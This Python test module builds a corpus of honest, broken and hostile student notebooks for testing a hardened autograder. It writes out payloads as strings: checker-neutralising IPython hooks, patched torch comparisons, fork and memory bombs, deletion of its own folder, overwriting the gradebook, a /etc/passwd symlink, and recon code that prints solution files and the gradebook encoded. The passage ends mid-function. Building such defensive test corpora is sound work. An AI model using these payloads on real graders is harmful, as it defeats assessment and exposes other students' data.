"""A corpus of hostile and broken submissions, generated from the released exercise.

Every submission is built programmatically from the committed release
(`exercises/<assignment>/<assignment>.ipynb`) and, where a student would have answered,
from the code between the solution markers of `solutions/` (what a student who solved
it would have typed). Nothing here is a hand-edited notebook file.

Three kinds of submissions (`Case.kind`):

- **honest**: solved, partly solved, untouched, honest mistakes;
- **broken**: what goes wrong by accident (a crash, an endless loop, a broken file, a
  renamed notebook, huge output...);
- **cheat**: what a student who wants the marks without the work would try (issue 12,
  kinds 1-6): IPython's own machinery, partial credit through an ``execute_result``,
  rebinding or patching the checkers, reaching the course's files by absolute path,
  escaping the grading process, reaching the reference implementation.

A cheat is written on top of **plausible wrong answers** (`wrong`: each passes the
visible ``assert`` lines of its test cell but not the checker), so that an attack which
works shows up as marks the answers do not deserve. Plain nbgrader gives them those
marks (`benchmarks/bench_autograde.py` reports it); the course's grader must not.

Each case says what grading must give: the autograded score of every grade cell, whether
the grading itself fails (the submission is then recorded as zero and flagged), and
whether the pipeline flags it for the instructor.

Safety: the payloads that **write** only ever write under the temporary directory where
the test and the benchmark build their throw-away copies of the course
(`tempfile.gettempdir()`), so running the corpus without a sandbox (plain nbgrader in the
benchmark, or a broken sandbox) never damages the repository or the instructor's home.
"""

from __future__ import annotations

import ast
import base64
import binascii
import codecs
import copy
import hashlib
import html
import json
import os
import re
import subprocess
import tempfile
import zlib
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

ASSIGNMENT = "01_sparse_connectivity"
# The corpus is graded with a short per-cell timeout and wall-time limit (the test sets
# them); a stalling submission sleeps this long in each of eight cells, under the former
# and far beyond the latter however fast the machine.
CELL_TIMEOUT = 12
STALL_SECONDS = 10
# A listener on a local port stands in for the attacker's server on the internet; the
# corpus is built for the port the grader's Listener got (this one when none is given).
NETWORK_PORT = 47613
# The command line of a process that a submission leaves behind carries this word.
SURVIVOR_MARK = "corpus-survivor"
# The course's configuration for the corpus, appended to nbgrader_config.py by the test
# and the benchmark: a short cell timeout, and limits small enough for the bombs below
# to reach them on any machine (SubmissionLimits is the course's; nbgrader ignores it).
CORPUS_CONFIG = f"""
c.Execute.timeout = {CELL_TIMEOUT}
c.SubmissionLimits.tree_memory_mb = 2048
c.SubmissionLimits.disk_mb = 100
c.SubmissionLimits.notebook_output_kb = 2048
"""
# What a graded folder or a feedback folder may hold at most: well above the notebook
# output limit above, far below what the bombs write (100 MB printed, a 200 MB file).
MAX_KEPT_BYTES = 4 * 2**20
# Text that only the honest student "partly_solved" wrote: no other feedback may show it.
CANARY = "CANARY-partly-solved-73119"

# The reference implementation that a lazy submission imports instead of writing it.
REFERENCE_SHORTCUT = {
    "01_sparse_connectivity": ("random_sparse_mask", "course_lib.connectivity"),
}

# Plausible wrong answers: (old, new) edits of the solution code, per answer cell. Each
# passes the visible asserts of its test cell and fails the checker.
WRONG = {
    "01_sparse_connectivity": {
        # ignores its seed: the same mask for every seed
        "random_sparse_mask": [("torch.Generator().manual_seed(seed)",
                                "torch.Generator().manual_seed(0)")],
        # forgets the mask in forward
        "mask_module": [("return weight * self.mask", "return weight")],
        # zeroes the weight once but registers no parametrization
        "sparse_linear": [("    parametrize.register_parametrization(layer, \"weight\", "
                           "Mask(mask))\n", "")],
        # forgets the mask in the recurrent term
        "rate_rnn_step": [("(w_rec * mask).T", "w_rec.T")],
    },
}


@dataclass
class Case:
    """One submission and what grading it must give."""

    student: str
    what: str
    files: dict[str, bytes]
    # grade_id -> expected auto_score; None means "left for manual grading".
    expected: dict[str, float | None]
    kind: str = "broken"  # "honest", "broken" or "cheat"
    fails: bool = False  # grading fails: recorded as zero, flagged, with a reason
    flagged: bool | None = False  # the pipeline flags it (None: either is right)
    reason: str = ""  # a word that the failure reason must contain
    slow: bool = False  # waits for a timeout: left out of the regrade round
    # graded with `expected`, or not graded and reported (both are right for a file
    # whose fate is a design choice: nbformat 3, a bad timestamp...)
    either: bool = False
    links: dict[str, str] = field(default_factory=dict)  # name -> symlink target
    extra: dict = field(default_factory=dict)

    def write(self, course: Path, assignment: str = ASSIGNMENT) -> Path:
        folder = course / "submitted" / self.student / assignment
        folder.mkdir(parents=True, exist_ok=True)
        for name, content in self.files.items():
            (folder / name).write_bytes(content)
        for name, target in self.links.items():
            (folder / name).symlink_to(target)
        return folder

    def summary(self) -> str:
        """What grading must give, in a few words (the benchmark's 'expected' column)."""
        if self.fails:
            return "not graded, flagged"
        scores = [v for v in self.expected.values() if v is not None]
        text = f"{sum(scores):g}"
        if self.either:
            text += " or not graded"
        if self.flagged:
            text += ", flagged"
        return text


# ------------------------------------------------------------------ notebook helpers


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _is_test(cell) -> bool:
    meta = _meta(cell)
    return cell.cell_type == "code" and meta.get("grade") and not meta.get("solution")


def _is_answer(cell) -> bool:
    return cell.cell_type == "code" and _meta(cell).get("solution")


def _answer_cells(nb) -> list:
    return [c for c in nb.cells if _is_answer(c)]


def _test_cells(nb) -> list:
    return [c for c in nb.cells if _is_test(c)]


def _strip_solution_markers(source: str) -> str:
    """The code a student would type: the solution region without its marker lines."""
    lines = [ln for ln in source.splitlines() if "### BEGIN SOLUTION" not in ln
             and "### END SOLUTION" not in ln]
    return "\n".join(lines)


def _dump(nb) -> bytes:
    return nbformat.writes(nb).encode()


def grade_cells(release) -> dict[str, tuple[str, float]]:
    """grade_id -> (cell type, points) of every grade cell of the release."""
    return {
        _meta(c)["grade_id"]: (c.cell_type, float(_meta(c)["points"]))
        for c in release.cells
        if _meta(c).get("grade")
    }


def filled(release, solution):
    """The release with every answer cell filled in from the solution, as a student would."""
    answers = {_meta(c)["grade_id"]: c for c in solution.cells if _meta(c).get("solution")}
    nb = copy.deepcopy(release)
    for cell in nb.cells:
        meta = _meta(cell)
        if not meta.get("solution"):
            continue
        if cell.cell_type == "code":
            cell.source = _strip_solution_markers(answers[meta["grade_id"]].source)
        else:
            cell.source = (
                "Zeroing once only sets the start: the masked entries still receive "
                "gradients, and AdamW's momentum and weight decay move them. Masking in "
                "the forward pass makes their gradient exactly zero."
            )
    return nb


def wrong(release, solution, assignment: str = ASSIGNMENT):
    """The release with plausible wrong answers (`WRONG`) and the written answer untouched:
    the starting point of every cheat."""
    nb = filled(release, solution)
    stubs = {_meta(c)["grade_id"]: c.source for c in release.cells if _meta(c).get("solution")}
    for cell in nb.cells:
        grade_id = _meta(cell).get("grade_id")
        if not _meta(cell).get("solution"):
            continue
        if cell.cell_type != "code":
            cell.source = stubs[grade_id]
            continue
        for old, new in WRONG[assignment][grade_id]:
            if old not in cell.source:
                raise ValueError(f"WRONG[{assignment!r}][{grade_id!r}]: {old!r} is not in "
                                 "the solution")
            cell.source = cell.source.replace(old, new)
    return nb


def imported_checkers(release) -> list[str]:
    """The names the release's imports cell takes from course_lib.checks."""
    names = []
    for cell in release.cells:
        if cell.cell_type != "code" or _meta(cell).get("grade_id") != "imports":
            continue
        for node in ast.walk(ast.parse(cell.source)):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("course_lib"):
                names += [alias.asname or alias.name for alias in node.names]
    return names


def checker_module_of(release) -> str:
    """The course_lib.checks module the release's imports cell imports from."""
    for cell in release.cells:
        if cell.cell_type == "code" and _meta(cell).get("grade_id") == "imports":
            for node in ast.walk(ast.parse(cell.source)):
                if isinstance(node, ast.ImportFrom) and (node.module or "").startswith(
                        "course_lib.checks"):
                    return node.module
    raise ValueError("the imports cell imports no checker")


def _forward(arguments: ast.arguments) -> str:
    """Pass a function's own arguments on: positional without default, else by keyword."""
    names = [a.arg for a in arguments.args]
    n_positional = len(names) - len(arguments.defaults)
    return ", ".join(n if i < n_positional else f"{n}={n}" for i, n in enumerate(names))


def _function_name(source: str) -> str:
    for node in ast.parse(source).body:
        if isinstance(node, ast.FunctionDef | ast.ClassDef):
            return node.name
    raise ValueError("the answer cell defines no function or class")


def _signature(source: str) -> ast.arguments:
    return next(n for n in ast.parse(source).body if isinstance(n, ast.FunctionDef)).args


# ------------------------------------------------------------------ secrets in feedback
# The test and the benchmark look for secrets in feedback pages with these functions,
# written independently of the grader's own leak check (course_lib.grading.leaks).

LEAK_MIN_LENGTH = 20  # characters: shorter lines (`return mask`) a student may well write


def secrets(root: Path) -> set[str]:
    """Lines no student may see: solutions and hidden tests of every assignment."""
    found = set()
    for notebook in (root / "solutions").glob("*/*.ipynb"):
        for cell in json.loads(notebook.read_text())["cells"]:
            text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
            for begin, end in (("BEGIN SOLUTION", "END SOLUTION"),
                               ("BEGIN HIDDEN TESTS", "END HIDDEN TESTS")):
                for block in re.findall(rf"### {begin}[^\n]*\n(.*?)### {end}", text, re.S):
                    found |= {ln.strip() for ln in block.splitlines()
                              if len(ln.strip()) >= LEAK_MIN_LENGTH}
    # a line that the release shows (a visible test, a stub) is no secret
    shown = "\n".join(
        "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
        for notebook in (root / "exercises").glob("*/*.ipynb")
        for c in json.loads(notebook.read_text())["cells"]
    )
    return {s for s in found if s not in shown}


# Markers of other data no feedback may hold: the gradebook's file header, another
# student's own text.
DATA_MARKERS = ("SQLite format 3", CANARY)

_BASE64 = re.compile(rb"[A-Za-z0-9+/]{40,}={0,2}")
_HEX = re.compile(rb"(?:[0-9a-fA-F]{2}){30,}")


def _without_tags(data: bytes) -> bytes:
    """An HTML page's text: highlighted code is split by tags, and quotes are escaped."""
    text = re.sub(r"<[^>]+>", "", data.decode("utf-8", errors="replace"))
    return html.unescape(text).encode()


def decoded_views(data: bytes) -> list[bytes]:
    """``data``, its text without HTML tags, and what they decode to: reversed, rot13,
    and their long base64 (also zlib-compressed) and hex runs."""
    views = []
    for text in (data, _without_tags(data)):
        views += [text, text[::-1],
                  codecs.encode(text.decode("latin-1"), "rot13").encode("latin-1")]
        views += _decoded_runs(text)
    return views


def _decoded_runs(data: bytes) -> list[bytes]:
    views = []
    unwrapped = data.replace(b"\n", b"")  # base64 printed in lines of 76
    for run in _BASE64.findall(data) + _BASE64.findall(unwrapped):
        try:
            raw = base64.b64decode(run + b"=" * (-len(run) % 4))
        except (binascii.Error, ValueError):
            continue
        views.append(raw)
        try:
            views.append(zlib.decompress(raw))
        except zlib.error:
            pass
    for run in _HEX.findall(data):
        views.append(bytes.fromhex(run.decode()))
    return views


def leaks(data: bytes, secret_lines: set[str], own: str = "") -> list[str]:
    """The secrets (and data markers) found in ``data`` or in what it decodes to, except
    what the student wrote themselves (``own``: the text of their submission)."""
    secret_lines = {s for s in secret_lines if s not in own}
    markers = [m for m in DATA_MARKERS if m not in own]
    found = set()
    for view in decoded_views(data):
        text = view.decode("utf-8", errors="replace")
        found |= {s for s in secret_lines if s in text}
        found |= {m for m in markers if m in text}
    return sorted(found)


def own_text(case: Case) -> str:
    """Everything the student submitted, as text (what their feedback may show): a
    notebook's cell sources (not its JSON, where quotes are escaped), else the raw text."""
    texts = []
    for content in case.files.values():
        text = content.decode("utf-8", errors="replace")
        try:
            cells = json.loads(text)["cells"]
            texts += ["".join(c["source"]) if isinstance(c["source"], list) else c["source"]
                      for c in cells]
        except (ValueError, KeyError, TypeError):
            texts.append(text)
    return "\n".join(texts)


# ------------------------------------------------------------------ attack code
# Code a hostile student puts in an answer cell. Helpers shared by several attacks are
# defined once here and pasted where needed.

SAFE_ROOT = tempfile.gettempdir()

RECON = '''
import os


def _course_roots(how):
    """Folders holding nbgrader_config.py: where the course and its secrets live."""
    starts = []
    if how == "file":  # the checkers' source file lies inside the course (editable install)
        code = getattr(CHECKER, "__wrapped__", CHECKER).__code__
        starts.append(os.path.dirname(code.co_filename))
    elif how == "proc":  # the working folder of every ancestor process
        pid = os.getpid()
        while pid > 1:
            try:
                starts.append(os.readlink(f"/proc/{pid}/cwd"))
                with open(f"/proc/{pid}/stat") as stat:
                    pid = int(stat.read().rsplit(")", 1)[1].split()[1])
            except (OSError, ValueError, IndexError):
                break
    else:  # environment variables holding absolute paths (PWD, VIRTUAL_ENV, ...)
        starts += [v for v in os.environ.values() if v.startswith("/")]
    roots = []
    for path in starts:
        while len(path) > 1:
            if os.path.isfile(os.path.join(path, "nbgrader_config.py")) and path not in roots:
                roots.append(path)
            path = os.path.dirname(path)
    return roots


def _may_write(path):
    # corpus safety (see tests/grading_corpus.py): only inside throw-away copies
    return os.path.realpath(path).startswith(SAFE_ROOT + os.sep)

'''


def _recon(checker: str) -> str:
    return RECON.replace("CHECKER", checker).replace("SAFE_ROOT", repr(SAFE_ROOT))


def _leak(how: str, encoding: str) -> str:
    """Print every solution notebook and the gradebook, encoded, into the output."""
    encode = {
        "base64": "base64.b64encode(zlib.compress(_data)).decode()",
        "hex": "_data.hex()",
        "rot13": "codecs.encode(_data.decode('latin-1'), 'rot13')",
    }[encoding]
    return (
        "import base64, codecs, glob, zlib\n"
        f"for _root in _course_roots({how!r}):\n"
        "    _paths = glob.glob(os.path.join(_root, 'solutions', '*', '*.ipynb'))\n"
        "    _paths += glob.glob(os.path.join(_root, 'submitted', '*', '*', '*.ipynb'))\n"
        "    _paths.append(os.path.join(_root, 'gradebook.db'))\n"
        "    for _path in _paths:\n"
        "        try:\n"
        "            _data = open(_path, 'rb').read()\n"
        "        except OSError:\n"
        "            continue\n"
        f"        print('>>', _path, {encode})\n"
    )


# ------------------------------------------------------------------ the corpus


def build_corpus(root: Path, assignment: str = ASSIGNMENT, port: int = NETWORK_PORT
                 ) -> list[Case]:
    """Every submission of the corpus, with its expected grading result."""
    name = f"{assignment}.ipynb"
    release = nbformat.read(root / "exercises" / assignment / name, as_version=4)
    solution = nbformat.read(root / "solutions" / assignment / name, as_version=4)
    cells = grade_cells(release)
    tests = [gid for gid, (kind, _) in cells.items() if kind == "code"]
    written = [gid for gid, (kind, _) in cells.items() if kind != "code"]
    first_test, last_test = tests[0], tests[-1]
    checkers = imported_checkers(release)
    checker_module = checker_module_of(release)

    def full(**changes):
        expected = {gid: cells[gid][1] for gid in tests}
        expected.update({gid: None for gid in written})  # answered: left to the grader
        expected.update(changes)
        return expected

    zero = {gid: 0.0 for gid in cells}  # untouched answers score 0, "No response."
    # a flagged first answer cell zeroes every part after it (what it changed stays in
    # the kernel for every later cell); the written answer is still the grader's
    every_test_zero = full(**{gid: 0.0 for gid in tests})

    def with_last_answer(prefix: str = "", suffix: str = "", nb=None):
        nb = nb or filled(release, solution)
        cell = _answer_cells(nb)[-1]
        cell.source = prefix + cell.source + suffix
        return nb

    def with_first_answer(prefix: str = "", suffix: str = "", nb=None):
        nb = nb or filled(release, solution)
        cell = _answer_cells(nb)[0]
        cell.source = prefix + cell.source + suffix
        return nb

    def cheat(prefix: str = "", suffix: str = "", nb=None):
        """Wrong answers with the attack in the first answer cell (it then reaches every
        test cell after it)."""
        return _dump(with_first_answer(prefix, suffix, nb or wrong(release, solution)))

    cases: list[Case] = []
    add = cases.append

    # ---------------------------------------------------------------- honest students
    add(Case("untouched", "the released exercise, unchanged", {name: _dump(release)}, zero,
             kind="honest"))
    add(Case("solution", "every answer filled in correctly",
             {name: _dump(filled(release, solution))}, full(), kind="honest"))

    nb = filled(release, solution)
    stubs = {_meta(c)["grade_id"]: c.source for c in release.cells if _is_answer(c)}
    for cell in _answer_cells(nb)[2:]:
        cell.source = stubs[_meta(cell)["grade_id"]]
    _answer_cells(nb)[0].source = f"# {CANARY}: my own notes\n" + _answer_cells(nb)[0].source
    add(Case("partly_solved", "the first two parts solved, the others left as released",
             {name: _dump(nb)}, full(**{gid: 0.0 for gid in tests[2:]}), kind="honest"))

    add(Case("wrong_answers", "plausible mistakes in every part (the base of every cheat)",
             {name: _dump(wrong(release, solution))}, zero, kind="honest"))

    add(Case("raises", "the last answer cell raises before defining anything",
             {name: _dump(with_last_answer('raise RuntimeError("not finished")\n'))},
             full(**{last_test: 0.0}), kind="honest"))

    function = _function_name(_answer_cells(filled(release, solution))[-1].source)
    noisy = (
        f"\n\n_quiet_{function} = {function}\n\n\n"
        f"def {function}(*args, **kwargs):\n"
        f'    print("debugging {function}", file=sys.stderr)\n'
        f"    return _quiet_{function}(*args, **kwargs)\n"
    )
    nb = with_last_answer("import sys\n", noisy)
    first = _answer_cells(nb)[0]
    first.source = 'import sys\nprint("a harmless note", file=sys.stderr)\n' + first.source
    add(Case("stderr", "prints to stderr: at top level (harmless) and inside the tested function",
             {name: _dump(nb)}, full(**{last_test: 0.0}), kind="honest"))

    nb = filled(release, solution)
    helper = ("import math\n\nimport numpy as np\n\n\n"
              "def _count_allowed(n_post, n_pre, self_connections):\n"
              "    return n_post * n_pre - (0 if self_connections else min(n_post, n_pre))\n\n\n")
    _answer_cells(nb)[0].source = helper + _answer_cells(nb)[0].source
    explore = nbformat.v4.new_code_cell(
        "import matplotlib.pyplot as plt\n\n"
        "example = random_sparse_mask(20, 20, 0.2, seed=3)\n"
        "print(example.shape, float(example.mean()), math.isclose(0.2, 0.2))\n"
        "plt.imshow(np.asarray(example), cmap='gray')\n"
        "plt.title('my mask')\n"
        "plt.show()\n"
    )
    nb.cells.insert(nb.cells.index(_answer_cells(nb)[0]) + 1, explore)
    add(Case("honest_extras", "a solution with numpy, math, a helper function and a cell of "
             "its own that plots the mask", {name: _dump(nb)}, full(), kind="honest"))

    # ---------------------------------------------------------------- structure
    nb = filled(release, solution)
    nb.cells.remove(next(c for c in nb.cells if _is_test(c)))
    add(Case("deleted_test", "a test cell deleted (nbgrader adds it back)",
             {name: _dump(nb)}, full(), kind="honest"))

    nb = copy.deepcopy(release)
    for cell in _test_cells(nb):
        cell.source = 'print("all tests passed")'
    add(Case("edited_tests", "every test cell replaced by a print (checksums differ)",
             {name: _dump(nb)}, zero, kind="cheat"))

    nb = filled(release, solution)
    doubled = []
    for cell in nb.cells:
        doubled.append(cell)
        if _meta(cell).get("grade") or _meta(cell).get("solution"):
            twin = copy.deepcopy(cell)
            twin["id"] = f"{cell.get('id', 'cell')}-copy"  # Jupyter gives a copy a new id
            doubled.append(twin)
    nb.cells = doubled
    add(Case("duplicated", "every answer and test cell duplicated", {name: _dump(nb)}, full(),
             kind="honest"))

    # ---------------------------------------------------------------- crashes and limits
    add(Case("infinite_loop", "an infinite loop in the last answer cell (per-cell timeout)",
             {name: _dump(with_last_answer("while True:\n    pass\n"))},
             full(**{last_test: 0.0}), slow=True))

    add(Case("os_exit", "os._exit in the last answer cell: the kernel exits",
             {name: _dump(with_last_answer("import os\nos._exit(3)\n"))},
             zero, fails=True, flagged=True, reason="kernel"))

    add(Case("segfault", "a segfault (ctypes) in the last answer cell: the kernel crashes",
             {name: _dump(with_last_answer("import ctypes\nctypes.string_at(0)\n"))},
             zero, fails=True, flagged=True, reason="kernel"))

    nb = filled(release, solution)
    slow = f"import time\ntime.sleep({STALL_SECONDS})\n"
    stalled = []
    for cell in nb.cells:
        stalled.append(cell)
        if _is_answer(cell):
            cell.source = slow + cell.source
            stalled.append(nbformat.v4.new_code_cell(slow))  # a cell of the student's own
    nb.cells = stalled
    add(Case("stall", "every answer cell, and a cell the student added after each, sleeps "
             "just under the per-cell timeout (80 s in all): only the wall-time limit stops it",
             {name: _dump(nb)},
             zero, fails=True, flagged=True, reason="wall-time", slow=True))

    bomb = (
        "def _grab_all_memory():\n"
        "    chunks = []\n"
        "    while True:\n"
        "        chunks.append(bytearray(256 * 2**20))\n"
        "\n"
        "_grab_all_memory()\n"
    )
    add(Case("memory_bomb", "allocates until memory runs out, in the last answer cell",
             {name: _dump(with_last_answer(bomb))}, full(**{last_test: 0.0})))

    fork_bomb = (
        "\n\nimport os, time\n"
        "_children = []\n"
        "for _ in range(8):\n"
        "    _pid = os.fork()\n"
        "    if _pid == 0:\n"
        "        try:  # 400 MiB each, written, so resident: 3.2 GiB for the eight\n"
        "            _block = b'\\1' * (400 * 2**20)\n"
        "            time.sleep(3)\n"
        "        finally:\n"
        "            os._exit(0 if '_block' in dir() else 1)\n"
        "    _children.append(_pid)\n"
        "_held = sum(os.waitpid(_pid, 0)[1] == 0 for _pid in _children)\n"
        "print(f'fork bomb: {_held} of 8 children held 400 MiB to the end')\n"
    )
    add(Case("fork_memory_bomb", "eight forked children hold 400 MiB each (after the last "
             "answer): a per-process limit lets the tree use 3.2 GiB",
             {name: _dump(with_last_answer(suffix=fork_bomb))}, full(**{last_test: 0.0}),
             either=True, flagged=True, extra={"must_not_print": "8 of 8 children"}))

    disk = ("\n\nwith open('cache.bin', 'wb') as _cache:  # 200 MiB in the working folder\n"
            "    for _ in range(200):\n"
            "        _cache.write(b'\\0' * 2**20)\n")
    add(Case("disk_fill", "writes a 200 MiB file in its working folder (after the last answer)",
             {name: _dump(with_last_answer(suffix=disk))}, full(), flagged=None,
             either=True, extra={"max_bytes": MAX_KEPT_BYTES}))

    add(Case("huge_print", "prints 100 MB at once (after the first answer)",
             {name: _dump(with_first_answer(suffix="\n\nprint('x' * 100_000_000)\n"))},
             full(), flagged=None, either=True, extra={"max_bytes": MAX_KEPT_BYTES}))

    spam = ("\n\nimport sys\nfor _i in range(200_000):\n"
            "    print(f'warning {_i}: something looks odd', file=sys.stderr)\n")
    add(Case("stderr_spam", "200 000 lines on stderr at top level (after the first answer)",
             {name: _dump(with_first_answer(suffix=spam))}, full(), flagged=None, either=True,
             extra={"max_bytes": MAX_KEPT_BYTES}))

    delete = "\n\nimport os, shutil\nshutil.rmtree(os.getcwd(), ignore_errors=True)\n"
    add(Case("deletes_own_folder", "deletes its own working folder (after the first answer)",
             {name: _dump(with_first_answer(suffix=delete))}, every_test_zero, flagged=True,
             either=True))

    escape = (
        "import os\n"
        "for _path in ('../../../gradebook.db', '../../../../gradebook.db'):\n"
        "    if os.path.exists(_path):\n"
        "        open(_path, 'wb').write(b'not a database any more')\n"
        "for _path in ('../../../ESCAPED.txt', '../../../../ESCAPED.txt',\n"
        "              os.path.expanduser('~/ESCAPED.txt'), '../ESCAPED.txt'):\n"
        "    open(_path, 'w').write('written by another student')\n"
    )
    add(Case("writes_outside", "overwrites ../../../gradebook.db and writes files outside "
             "by relative path (before the first answer)",
             {name: _dump(with_first_answer(escape))}, every_test_zero, kind="cheat",
             flagged=True))

    # ---------------------------------------------------------------- broken files
    renamed = f"{assignment} (copy).ipynb"
    add(Case("renamed", "the notebook saved under another name",
             {renamed: _dump(filled(release, solution))},
             zero, fails=True, flagged=True, reason="renamed", extra={"found": renamed}))

    add(Case("missing", "an empty submission folder", {}, zero, fails=True, flagged=True,
             reason="missing"))

    text = _dump(filled(release, solution))
    add(Case("not_json", "a notebook cut in half (not valid JSON)",
             {name: text[: len(text) // 2]}, zero, fails=True, flagged=True, reason="JSON"))

    add(Case("empty_file", "an empty notebook file", {name: b""}, zero, fails=True,
             flagged=True))

    add(Case("json_not_notebook", "valid JSON that is not a notebook",
             {name: b'{"answers": [1, 2, 3]}'}, zero, fails=True, flagged=True))

    add(Case("nbformat3", "the solved notebook saved in the old format 3",
             {name: nbformat.writes(nbformat.convert(filled(release, solution), 3),
                                    version=3).encode()},
             full(), either=True, flagged=None))

    nb = with_first_answer("# résumé of my approach: shuffle, then cut\n")
    latin1 = _dump(nb).replace("é".encode(), "é".encode("latin-1"))  # an old editor's save
    add(Case("non_utf8", "a solved notebook with Latin-1 bytes in a comment (not UTF-8)",
             {name: latin1}, full(), either=True, flagged=None))

    add(Case("bad_timestamp", "a solved notebook with a timestamp.txt that is not a date",
             {name: _dump(filled(release, solution)),
              "timestamp.txt": b"last Tuesday, after the lecture"},
             full(), either=True, flagged=None))

    nb = with_first_answer("# ### BEGIN HIDDEN TESTS  (copied from the forum, not sure why)\n")
    add(Case("hidden_marker_comment", "a solved notebook with a hidden-test marker in a "
             "comment of an answer cell", {name: _dump(nb)}, full(), either=True,
             flagged=None))

    add(Case("symlink_notebook", "the notebook is a symbolic link to another student's",
             {}, zero, fails=True, flagged=True,
             links={name: f"../../solution/{assignment}/{name}"}))

    add(Case("symlink_extras", "a solved notebook next to links to /dev/zero and /etc/passwd",
             {name: _dump(filled(release, solution))}, full(), flagged=None,
             links={"data.bin": "/dev/zero", "passwd.txt": "/etc/passwd"}))

    # ---------------------------------------------------------------- kind 1: no file access
    neutralise = (
        "def _neutralise(lines):\n"
        "    # every test cell (they call the checkers) becomes `pass`\n"
        "    if any('check_' in line for line in lines):\n"
        "        return ['pass\\n']\n"
        "    return lines\n\n\n"
        "get_ipython().input_transformers_cleanup.append(_neutralise)\n\n\n"
    )
    add(Case("input_transformer", "an IPython input transformer turns every later test "
             "cell into `pass`", {name: cheat(neutralise)}, zero, kind="cheat", flagged=True))

    hollow = (
        "import ast\n\n\n"
        "class _Hollow(ast.NodeTransformer):\n"
        "    def visit_Module(self, node):\n"
        "        if 'check_' in ast.dump(node):  # a test cell: run nothing\n"
        "            node.body = [ast.Pass()]\n"
        "        return ast.fix_missing_locations(node)\n\n\n"
        "get_ipython().ast_transformers.append(_Hollow())\n\n\n"
    )
    add(Case("ast_transformer", "an IPython AST transformer empties every later test cell",
             {name: cheat(hollow)}, zero, kind="cheat", flagged=True))

    swallow = (
        "_shell = get_ipython()\n\n\n"
        "async def _run_quietly(code, result=None, *, async_=False):\n"
        "    # the shell's run_code, replaced: every exception is swallowed, so a failing\n"
        "    # test cell ends without an error\n"
        "    try:\n"
        "        exec(code, _shell.user_global_ns, _shell.user_ns)\n"
        "    except BaseException:\n"
        "        pass\n"
        "    return False\n\n\n"
        "_shell.run_code = _run_quietly\n\n\n"
    )
    add(Case("swallowed_errors", "the shell's run_code replaced: no test cell ever shows "
             "an error", {name: cheat(swallow)}, zero, kind="cheat", flagged=True))

    noop = "def _passes(*args, **kwargs):\n    return None\n\n\n"
    before_each = (
        noop
        + "import sys\n\n\n"
        "def _before_each_cell(info):\n"
        "    # before every cell, the checkers become no-ops: in the notebook and in their\n"
        "    # module, so that a test cell that imports them again gets the no-ops too\n"
        "    for _module in [m for n, m in sys.modules.items()\n"
        "                    if n.startswith('course_lib.checks')]:\n"
        "        for _name in [n for n in vars(_module) if n.startswith('check_')]:\n"
        "            setattr(_module, _name, _passes)\n"
        "    for _name in [n for n in get_ipython().user_ns if n.startswith('check_')]:\n"
        "        get_ipython().user_ns[_name] = _passes\n\n\n"
        "get_ipython().events.register('pre_run_cell', _before_each_cell)\n\n\n"
    )
    add(Case("pre_run_cell", "a pre_run_cell event makes every checker a no-op before "
             "every cell", {name: cheat(before_each)}, zero, kind="cheat", flagged=True))

    rebind = noop + " = ".join(checkers) + " = _passes\n\n\n"
    add(Case("rebind_checkers", "the checker names of the imports cell rebound to no-ops",
             {name: cheat(rebind)}, zero, kind="cheat", flagged=True))

    module_patch = (noop + f"import {checker_module} as _checks\n\n"
                    + "".join(f"_checks.{c} = _passes\n" for c in checkers) + "\n\n")
    add(Case("patch_checker_module", "the checkers replaced by no-ops in their own module "
             "(a test cell that imports them again gets the no-ops)",
             {name: cheat(module_patch)}, zero, kind="cheat", flagged=True))

    recode = (noop + f"for _checker in ({', '.join(checkers)},):\n"
              "    getattr(_checker, '__wrapped__', _checker).__code__ = _passes.__code__\n\n\n")
    add(Case("replace_code", "each checker's __code__ replaced by a no-op's",
             {name: cheat(recode)}, zero, kind="cheat", flagged=True))

    patch_helpers = (
        f"_checks = getattr({checkers[0]}, '__wrapped__', {checkers[0]}).__globals__\n"
        "_checks['fail'] = lambda *args, **kwargs: None\n"
        "_checks['close'] = lambda *args, **kwargs: True\n\n\n"
    )
    add(Case("patch_fail_close", "fail and close patched in the checker module's globals",
             {name: cheat(patch_helpers)}, zero, kind="cheat", flagged=True))

    patch_torch = (
        "torch.allclose = lambda *args, **kwargs: True\n"
        "torch.equal = lambda *args, **kwargs: True\n"
        "torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)\n"
        "torch.Tensor.__ne__ = lambda self, other: torch.zeros_like(self, dtype=torch.bool)\n\n\n"
    )
    add(Case("patch_torch", "torch.allclose, torch.equal, torch.isclose and Tensor.__ne__ "
             "patched to agree with anything", {name: cheat(patch_torch)}, zero, kind="cheat",
             flagged=True))

    answers = {_meta(c)["grade_id"]: c.source for c in _answer_cells(wrong(release, solution))}
    last_id = _meta(_answer_cells(release)[-1])["grade_id"]
    last_wrong = answers[last_id]
    last_function = _function_name(last_wrong)
    nb = filled(release, solution)
    _answer_cells(nb)[-1].source = patch_torch + last_wrong
    add(Case("patch_torch_last_part", "the first parts solved; the last one wrong, with "
             "torch's comparisons patched in its answer cell",
             {name: _dump(nb)}, full(**{last_test: 0.0}), kind="cheat", flagged=True))

    subclass = (
        "\n\nclass _AlwaysEqual(torch.Tensor):\n"
        "    # answers True to every comparison, whatever it holds\n"
        "    @classmethod\n"
        "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
        "        if func in (torch.allclose, torch.equal):\n"
        "            return True\n"
        "        if func in (torch.Tensor.__eq__, torch.isclose):\n"
        "            return torch.ones_like(args[0].as_subclass(torch.Tensor), dtype=torch.bool)\n"
        "        return super().__torch_function__(func, types, args, kwargs or {})\n\n\n"
        f"_plain_{last_function} = {last_function}\n\n\n"
        f"def {last_function}(*args, **kwargs):\n"
        f"    return _plain_{last_function}(*args, **kwargs).as_subclass(_AlwaysEqual)\n"
    )
    nb = filled(release, solution)
    _answer_cells(nb)[-1].source = last_wrong + subclass
    add(Case("tensor_subclass", "the first parts solved; the last one wrong, returning a "
             "tensor subclass equal to everything", {name: _dump(nb)},
             full(**{last_test: 0.0}), kind="cheat", flagged=True))

    def scored(value):
        """Wrong answers, each wrapped in its own cell: a call first shows ``value`` as the
        running cell's result."""
        nb = wrong(release, solution)
        for cell in _answer_cells(nb):
            fn = _function_name(cell.source)
